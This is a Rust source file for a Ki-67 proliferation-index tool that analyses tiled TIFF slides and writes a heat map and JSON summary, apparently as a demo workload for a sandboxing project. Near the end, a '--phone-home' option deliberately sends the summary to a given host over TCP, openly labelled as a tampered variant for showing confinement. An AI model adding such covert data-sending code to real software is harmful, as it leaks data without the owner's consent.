//! `ki67 SLIDE --out DIR`: a Ki-67 proliferation-index analysis of a
//! virtual slide (pyramidal tiled TIFF), the kind of submitted analysis
//! tresor confines. Writes DIR/heatmap.png (positive fraction per tile over
//! a thumbnail) and DIR/summary.json (index per tissue region and overall,
//! nuclei counted, tiles read). See docs/SLIDES.md.
//!
//! Method: colour deconvolution (Ruifrok & Johnston 2001, H-DAB vectors)
//! turns each pixel's optical density into hematoxylin and DAB amounts;
//! nuclei are the 8-connected components of pixels with enough stain
//! (labelled in one streaming pass over the rows, so a nucleus cut by a
//! tile border is still one nucleus); a nucleus is positive when DAB makes
//! up enough of its stain. Tissue regions are the 8-connected groups of
//! tiles holding tissue.
//!
//! Deliberately plain: one thread, std file reads of one tile at a time,
//! memory bounded by one row of tiles' worth of runs; the output depends on
//! the slide's bytes alone (no paths, no time), so a confined run and an
//! unconfined one write the same bytes.

use std::path::{Path, PathBuf};
use std::process::ExitCode;

use serde::Serialize;
use tresor::slide::{SlideReader, BPP};

/// Ruifrok–Johnston optical-density vectors (R, G, B) for hematoxylin and DAB.
const H_VEC: [f64; 3] = [0.650, 0.704, 0.286];
const DAB_VEC: [f64; 3] = [0.268, 0.570, 0.776];
/// A pixel belongs to a nucleus when hematoxylin + DAB exceed this.
const NUCLEUS_STAIN: f32 = 0.25;
/// A pixel is tissue (not glass) when its summed optical density exceeds this.
const TISSUE_OD: f32 = 0.11;
/// A tile is tissue when this fraction of its pixels is, or it holds a nucleus.
const TISSUE_TILE_FRACTION: f64 = 0.01;
/// Components smaller than this (px, level 0) are specks, not nuclei.
const MIN_NUCLEUS_AREA: u64 = 30;
/// Larger ones are not single nuclei either (folds, debris): not counted.
const MAX_NUCLEUS_AREA: u64 = 2000;
/// Positive when DAB is at least this share of a nucleus's stain.
const POSITIVE_DAB_SHARE: f64 = 0.35;
/// The heat map's longest side, at most (px).
const HEATMAP_MAX: u32 = 1024;

/// Pixel colour to (hematoxylin, DAB, summed OD): a 3×3 unmixing.
struct Unmixer {
    od: [f32; 256],
    inv: [[f32; 3]; 3],
}

fn normalise(v: [f64; 3]) -> [f64; 3] {
    let n = (v[0] * v[0] + v[1] * v[1] + v[2] * v[2]).sqrt();
    [v[0] / n, v[1] / n, v[2] / n]
}

impl Unmixer {
    fn new() -> Unmixer {
        let h = normalise(H_VEC);
        let d = normalise(DAB_VEC);
        // Third stain: the residual, orthogonal to both.
        let r = normalise([
            h[1] * d[2] - h[2] * d[1],
            h[2] * d[0] - h[0] * d[2],
            h[0] * d[1] - h[1] * d[0],
        ]);
        let m = [h, d, r];
        let det = m[0][0] * (m[1][1] * m[2][2] - m[1][2] * m[2][1])
            - m[0][1] * (m[1][0] * m[2][2] - m[1][2] * m[2][0])
            + m[0][2] * (m[1][0] * m[2][1] - m[1][1] * m[2][0]);
        let c = |i: usize, j: usize| {
            let (a, b) = ((i + 1) % 3, (i + 2) % 3);
            let (p, q) = ((j + 1) % 3, (j + 2) % 3);
            (m[a][p] * m[b][q] - m[a][q] * m[b][p]) / det
        };
        // inv = M⁻¹, so that stains = od · inv (od a row vector).
        let mut inv = [[0f32; 3]; 3];
        for (i, row) in inv.iter_mut().enumerate() {
            for (j, v) in row.iter_mut().enumerate() {
                *v = c(j, i) as f32;
            }
        }
        let mut od = [0f32; 256];
        for (v, o) in od.iter_mut().enumerate() {
            *o = -((v.max(1) as f32) / 255.0).log10();
        }
        Unmixer { od, inv }
    }

    fn unmix(&self, px: &[u8]) -> (f32, f32, f32) {
        let o = [
            self.od[px[0] as usize],
            self.od[px[1] as usize],
            self.od[px[2] as usize],
        ];
        let s = |k: usize| o[0] * self.inv[0][k] + o[1] * self.inv[1][k] + o[2] * self.inv[2][k];
        (s(0), s(1), o[0] + o[1] + o[2])
    }
}

/// A horizontal run of nucleus pixels in one row.
#[derive(Clone, Copy)]
struct Run {
    x0: u32,
    /// Inclusive.
    x1: u32,
    h: f64,
    d: f64,
    comp: usize,
}

#[derive(Clone, Copy, Default)]
struct Stats {
    area: u64,
    h: f64,
    d: f64,
    sx: f64,
    sy: f64,
}

impl Stats {
    fn add(&mut self, o: &Stats) {
        self.area += o.area;
        self.h += o.h;
        self.d += o.d;
        self.sx += o.sx;
        self.sy += o.sy;
    }
}

/// Streaming connected-component labelling over rows of runs: components
/// live only while they touch the current row, then are handed out.
struct Labeller {
    parent: Vec<usize>,
    stats: Vec<Stats>,
    free: Vec<usize>,
    prev: Vec<Run>,
    seen: Vec<u64>,
    row: u64,
}

impl Labeller {
    fn new() -> Labeller {
        Labeller {
            parent: Vec::new(),
            stats: Vec::new(),
            free: Vec::new(),
            prev: Vec::new(),
            seen: Vec::new(),
            row: 0,
        }
    }

    fn alloc(&mut self) -> usize {
        if let Some(i) = self.free.pop() {
            self.parent[i] = i;
            self.stats[i] = Stats::default();
            self.seen[i] = 0;
            i
        } else {
            let i = self.parent.len();
            self.parent.push(i);
            self.stats.push(Stats::default());
            self.seen.push(0);
            i
        }
    }

    fn find(&mut self, mut i: usize) -> usize {
        while self.parent[i] != i {
            self.parent[i] = self.parent[self.parent[i]];
            i = self.parent[i];
        }
        i
    }

    /// Adds row `y`'s runs (sorted by x); calls `done` for every component
    /// that the row ended.
    fn push_row(&mut self, y: u32, mut cur: Vec<Run>, done: &mut impl FnMut(Stats)) {
        self.row += 1;
        let mut merged = Vec::new();
        let mut p = 0;
        for run in cur.iter_mut() {
            // Skip previous runs entirely left of this one (8-connectivity).
            while p < self.prev.len() && self.prev[p].x1 + 1 < run.x0 {
                p += 1;
            }
            let mut label: Option<usize> = None;
            let mut q = p;
            while q < self.prev.len() && self.prev[q].x0 <= run.x1 + 1 {
                let root = self.find(self.prev[q].comp);
                match label {
                    None => label = Some(root),
                    Some(l) if l != root => {
                        let s = self.stats[root];
                        self.stats[l].add(&s);
                        self.parent[root] = l;
                        merged.push(root);
                    }
                    _ => {}
                }
                q += 1;
            }
            let l = match label {
                Some(l) => l,
                None => self.alloc(),
            };
            let len = u64::from(run.x1 - run.x0 + 1);
            self.stats[l].add(&Stats {
                area: len,
                h: run.h,
                d: run.d,
                sx: (f64::from(run.x0) + f64::from(run.x1)) / 2.0 * len as f64,
                sy: f64::from(y) * len as f64,
            });
            run.comp = l;
        }
        for run in cur.iter_mut() {
            let root = self.find(run.comp);
            run.comp = root;
            self.seen[root] = self.row;
        }
        // Components of the previous row that this row did not continue.
        for i in 0..self.prev.len() {
            let root = self.find(self.prev[i].comp);
            if self.seen[root] != self.row {
                self.seen[root] = self.row;
                done(self.stats[root]);
                self.free.push(root);
            }
        }
        // Merged-away labels were only referenced by the previous row.
        self.free.extend(merged);
        self.prev = cur;
    }

    fn finish(&mut self, done: &mut impl FnMut(Stats)) {
        self.push_row(0, Vec::new(), done);
    }
}

#[derive(Clone, Copy, Default)]
struct TileCount {
    tissue_px: u32,
    nuclei: u32,
    positive: u32,
}

#[derive(Serialize)]
struct RegionOut {
    id: usize,
    /// [x0, y0, x1, y1] in level-0 pixels (x1, y1 exclusive).
    bbox: [u32; 4],
    tiles: u32,
    nuclei: u64,
    positive: u64,
    ki67_index_percent: f64,
}

#[derive(Serialize)]
struct Method {
    stain_vectors: &'static str,
    nucleus_stain_threshold: f32,
    tissue_od_threshold: f32,
    min_nucleus_area_px: u64,
    max_nucleus_area_px: u64,
    positive_dab_share: f64,
}

#[derive(Serialize)]
struct TilesRead {
    level0: u64,
    thumbnail: u64,
}

#[derive(Serialize)]
struct Heatmap {
    file: &'static str,
    tiles_x: u32,
    tiles_y: u32,
    cell_px: u32,
    colours: &'static str,
}

#[derive(Serialize)]
struct Summary {
    analysis: &'static str,
    width: u32,
    height: u32,
    levels: usize,
    tile: [u32; 2],
    method: Method,
    tiles_read: TilesRead,
    tissue_tiles: u32,
    nuclei: u64,
    positive: u64,
    /// Components rejected as too large to be one nucleus.
    rejected_components: u64,
    ki67_index_percent: f64,
    regions: Vec<RegionOut>,
    heatmap: Heatmap,
}

fn percent(pos: u64, n: u64) -> f64 {
    if n == 0 {
        0.0
    } else {
        (pos as f64 * 10_000.0 / n as f64).round() / 100.0
    }
}

/// Positive fraction to colour (ColorBrewer RdYlBu, reversed: blue = 0 %).
fn colour(f: f64) -> [f64; 3] {
    const STOPS: [[f64; 3]; 5] = [
        [44.0, 123.0, 182.0],
        [171.0, 217.0, 233.0],
        [255.0, 255.0, 191.0],
        [253.0, 174.0, 97.0],
        [215.0, 25.0, 28.0],
    ];
    let t = f.clamp(0.0, 1.0) * 4.0;
    let i = (t.floor() as usize).min(3);
    let u = t - i as f64;
    let mut c = [0.0; 3];
    for k in 0..3 {
        c[k] = STOPS[i][k] * (1.0 - u) + STOPS[i + 1][k] * u;
    }
    c
}

fn run(slide: &Path, out: &Path) -> Result<(), String> {
    let err = |e: tresor::slide::SlideError| format!("cannot read {}: {e}", slide.display());
    let mut reader = SlideReader::open(slide).map_err(err)?;
    let levels = reader.levels().to_vec();
    let l0 = levels[0].clone();
    let (ntx, nty) = l0.tiles();
    let (tw, th) = (l0.tile_width, l0.tile_height);
    let (width, height) = (l0.size.width, l0.size.height);
    let unmix = Unmixer::new();

    let mut counts = vec![TileCount::default(); ntx as usize * nty as usize];
    let mut labeller = Labeller::new();
    let (mut nuclei, mut positive, mut rejected) = (0u64, 0u64, 0u64);
    let mut tile = Vec::new();
    let mut tiles_read = 0u64;

    let mut on_done = |s: Stats, counts: &mut [TileCount]| {
        if s.area < MIN_NUCLEUS_AREA {
            return;
        }
        if s.area > MAX_NUCLEUS_AREA {
            rejected += 1;
            return;
        }
        let (cx, cy) = (s.sx / s.area as f64, s.sy / s.area as f64);
        let t = (cy as u32 / th).min(nty - 1) as usize * ntx as usize
            + (cx as u32 / tw).min(ntx - 1) as usize;
        let pos = s.d / (s.h + s.d).max(1e-9) >= POSITIVE_DAB_SHARE;
        counts[t].nuclei += 1;
        counts[t].positive += u32::from(pos);
        nuclei += 1;
        positive += u64::from(pos);
    };

    for ty in 0..nty {
        let rows = (height - ty * th).min(th) as usize;
        let mut row_runs: Vec<Vec<Run>> = vec![Vec::new(); rows];
        for tx in 0..ntx {
            reader.read_tile(0, tx, ty, &mut tile).map_err(err)?;
            tiles_read += 1;
            let cols = (width - tx * tw).min(tw) as usize;
            let mut tissue = 0u32;
            for (r, runs) in row_runs.iter_mut().enumerate() {
                let line = &tile[r * tw as usize * BPP..];
                let mut open: Option<Run> = None;
                for c in 0..cols {
                    let (h, d, od) = unmix.unmix(&line[c * BPP..c * BPP + BPP]);
                    tissue += u32::from(od > TISSUE_OD);
                    if h + d > NUCLEUS_STAIN {
                        let x = tx * tw + c as u32;
                        let run = open.get_or_insert(Run {
                            x0: x,
                            x1: x,
                            h: 0.0,
                            d: 0.0,
                            comp: 0,
                        });
                        run.x1 = x;
                        run.h += f64::from(h.max(0.0));
                        run.d += f64::from(d.max(0.0));
                    } else if let Some(run) = open.take() {
                        runs.push(run);
                    }
                }
                if let Some(run) = open.take() {
                    runs.push(run);
                }
            }
            counts[(ty * ntx + tx) as usize].tissue_px = tissue;
        }
        // Tiles were read left to right, so each row's runs are sorted; a
        // run at a tile's left edge may continue the one ending at the
        // previous tile's right edge: join those.
        for (r, runs) in row_runs.into_iter().enumerate() {
            let mut joined: Vec<Run> = Vec::with_capacity(runs.len());
            for run in runs {
                match joined.last_mut() {
                    Some(last) if last.x1 + 1 == run.x0 => {
                        last.x1 = run.x1;
                        last.h += run.h;
                        last.d += run.d;
                    }
                    _ => joined.push(run),
                }
            }
            labeller.push_row(ty * th + r as u32, joined, &mut |s| on_done(s, &mut counts));
        }
    }
    labeller.finish(&mut |s| on_done(s, &mut counts));

    // Tissue regions: 8-connected groups of tissue tiles, in raster order.
    let tile_px = f64::from(tw * th);
    let is_tissue =
        |c: &TileCount| f64::from(c.tissue_px) >= TISSUE_TILE_FRACTION * tile_px || c.nuclei > 0;
    let mut label = vec![usize::MAX; counts.len()];
    let mut regions = Vec::new();
    for start in 0..counts.len() {
        if label[start] != usize::MAX || !is_tissue(&counts[start]) {
            continue;
        }
        let id = regions.len();
        let mut stack = vec![start];
        label[start] = id;
        let (mut bx0, mut by0, mut bx1, mut by1) = (u32::MAX, u32::MAX, 0, 0);
        let (mut n, mut p, mut tiles) = (0u64, 0u64, 0u32);
        while let Some(t) = stack.pop() {
            let (x, y) = (t as u32 % ntx, t as u32 / ntx);
            bx0 = bx0.min(x);
            by0 = by0.min(y);
            bx1 = bx1.max(x);
            by1 = by1.max(y);
            n += u64::from(counts[t].nuclei);
            p += u64::from(counts[t].positive);
            tiles += 1;
            for dy in -1i64..=1 {
                for dx in -1i64..=1 {
                    let (nx, ny) = (i64::from(x) + dx, i64::from(y) + dy);
                    if nx < 0 || ny < 0 || nx >= i64::from(ntx) || ny >= i64::from(nty) {
                        continue;
                    }
                    let u = (ny * i64::from(ntx) + nx) as usize;
                    if label[u] == usize::MAX && is_tissue(&counts[u]) {
                        label[u] = id;
                        stack.push(u);
                    }
                }
            }
        }
        regions.push(RegionOut {
            id,
            bbox: [
                bx0 * tw,
                by0 * th,
                ((bx1 + 1) * tw).min(width),
                ((by1 + 1) * th).min(height),
            ],
            tiles,
            nuclei: n,
            positive: p,
            ki67_index_percent: percent(p, n),
        });
    }

    // Heat map: one cell per level-0 tile, over the matching pyramid level
    // as a grey thumbnail where the slide has one.
    let longest = ntx.max(nty);
    let mut cell = 1u32;
    while cell < 64 && cell * 2 * longest <= HEATMAP_MAX {
        cell *= 2;
    }
    let (hw, hh) = (ntx * cell, nty * cell);
    let mut thumb_tiles = 0u64;
    let mut base = vec![255u8; hw as usize * hh as usize];
    if tw == th && tw % cell == 0 {
        let ds = tw / cell;
        let want = (width.div_ceil(ds), height.div_ceil(ds));
        if let Some(li) = levels
            .iter()
            .position(|l| (l.size.width, l.size.height) == want && l.size.width <= hw)
        {
            let lv = &levels[li];
            let (ltx, lty) = lv.tiles();
            for y in 0..lty {
                for x in 0..ltx {
                    reader.read_tile(li, x, y, &mut tile).map_err(err)?;
                    thumb_tiles += 1;
                    for r in 0..lv.tile_height.min(lv.size.height - y * lv.tile_height) {
                        for c in 0..lv.tile_width.min(lv.size.width - x * lv.tile_width) {
                            let i = ((r * lv.tile_width + c) as usize) * BPP;
                            let luma = (299 * u32::from(tile[i])
                                + 587 * u32::from(tile[i + 1])
                                + 114 * u32::from(tile[i + 2]))
                                / 1000;
                            let (gx, gy) = (x * lv.tile_width + c, y * lv.tile_height + r);
                            base[(gy * hw + gx) as usize] = luma as u8;
                        }
                    }
                }
            }
        }
    }
    let mut rgb = vec![0u8; hw as usize * hh as usize * 3];
    for y in 0..hh {
        for x in 0..hw {
            let t = &counts[((y / cell) * ntx + x / cell) as usize];
            let g = f64::from(base[(y * hw + x) as usize]);
            let c = if t.nuclei > 0 {
                let f = colour(f64::from(t.positive) / f64::from(t.nuclei));
                // Cells with few nuclei (region edges) are less certain: paler.
                let a = 0.7 * (f64::from(t.nuclei) / 20.0).min(1.0);
                [
                    a * f[0] + (1.0 - a) * g,
                    a * f[1] + (1.0 - a) * g,
                    a * f[2] + (1.0 - a) * g,
                ]
            } else {
                [g, g, g]
            };
            let i = (y * hw + x) as usize * 3;
            for k in 0..3 {
                rgb[i + k] = c[k].round().clamp(0.0, 255.0) as u8;
            }
        }
    }

    std::fs::create_dir_all(out).map_err(|e| format!("cannot create {}: {e}", out.display()))?;
    let hp = out.join("heatmap.png");
    write_png(&hp, hw, hh, &rgb).map_err(|e| format!("cannot write {}: {e}", hp.display()))?;

    let summary = Summary {
        analysis: "ki67 1",
        width,
        height,
        levels: levels.len(),
        tile: [tw, th],
        method: Method {
            stain_vectors: "Ruifrok-Johnston H-DAB, residual orthogonal",
            nucleus_stain_threshold: NUCLEUS_STAIN,
            tissue_od_threshold: TISSUE_OD,
            min_nucleus_area_px: MIN_NUCLEUS_AREA,
            max_nucleus_area_px: MAX_NUCLEUS_AREA,
            positive_dab_share: POSITIVE_DAB_SHARE,
        },
        tiles_read: TilesRead {
            level0: tiles_read,
            thumbnail: thumb_tiles,
        },
        tissue_tiles: counts.iter().filter(|c| is_tissue(c)).count() as u32,
        nuclei,
        positive,
        rejected_components: rejected,
        ki67_index_percent: percent(positive, nuclei),
        regions,
        heatmap: Heatmap {
            file: "heatmap.png",
            tiles_x: ntx,
            tiles_y: nty,
            cell_px: cell,
            colours: "blue 0 % .. yellow 50 % .. red 100 % positive, paler under 20 nuclei; grey: no nuclei",
        },
    };
    let mut json = serde_json::to_string_pretty(&summary).map_err(|e| e.to_string())?;
    json.push('\n');
    let sp = out.join("summary.json");
    std::fs::write(&sp, json).map_err(|e| format!("cannot write {}: {e}", sp.display()))?;
    say(format_args!(
        "{} nuclei, {} positive: Ki-67 index {:.2} % over {} regions; wrote {} and {}",
        summary.nuclei,
        summary.positive,
        summary.ki67_index_percent,
        summary.regions.len(),
        hp.display(),
        sp.display()
    ));
    Ok(())
}

fn write_png(path: &Path, w: u32, h: u32, rgb: &[u8]) -> Result<(), String> {
    let file = std::fs::File::create(path).map_err(|e| e.to_string())?;
    let mut enc = png::Encoder::new(std::io::BufWriter::new(file), w, h);
    enc.set_color(png::ColorType::Rgb);
    enc.set_depth(png::BitDepth::Eight);
    let mut wr = enc.write_header().map_err(|e| e.to_string())?;
    wr.write_image_data(rgb).map_err(|e| e.to_string())?;
    wr.finish().map_err(|e| e.to_string())
}

/// Prints a line; a closed stdout (`| head`) is not worth a panic.
fn say(line: std::fmt::Arguments) {
    use std::io::Write;
    let _ = writeln!(std::io::stdout(), "{line}");
}

/// `--phone-home HOST:PORT`: the tampered variant `tresor demo` shows — it
/// sends its summary out over TCP, which no profile of the honest analysis
/// allows, so a confined run is stopped at the `socket` call.
fn exfiltrate(to: &str, out: &Path) -> ExitCode {
    use std::io::Write;
    let sent = std::fs::read(out.join("summary.json")).and_then(|summary| {
        let mut s = std::net::TcpStream::connect(to)?;
        s.write_all(&summary)
    });
    match sent {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("ki67: could not phone home to {to}: {e}");
            ExitCode::FAILURE
        }
    }
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let mut slide: Option<PathBuf> = None;
    let mut out: Option<PathBuf> = None;
    let mut phone_home: Option<String> = None;
    let mut it = args.iter();
    while let Some(a) = it.next() {
        match a.as_str() {
            "--out" => out = it.next().map(PathBuf::from),
            "--phone-home" => phone_home = it.next().cloned(),
            s if !s.starts_with('-') && slide.is_none() => slide = Some(PathBuf::from(s)),
            _ => {
                slide = None;
                break;
            }
        }
    }
    let (Some(slide), Some(out)) = (slide, out) else {
        eprintln!("usage: ki67 SLIDE.tiff --out DIR   (writes DIR/heatmap.png, DIR/summary.json)");
        return ExitCode::from(2);
    };
    match run(&slide, &out) {
        Ok(()) if phone_home.is_some() => exfiltrate(phone_home.as_deref().unwrap_or(""), &out),
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("ki67: {e}");
            ExitCode::FAILURE
        }
    }
}
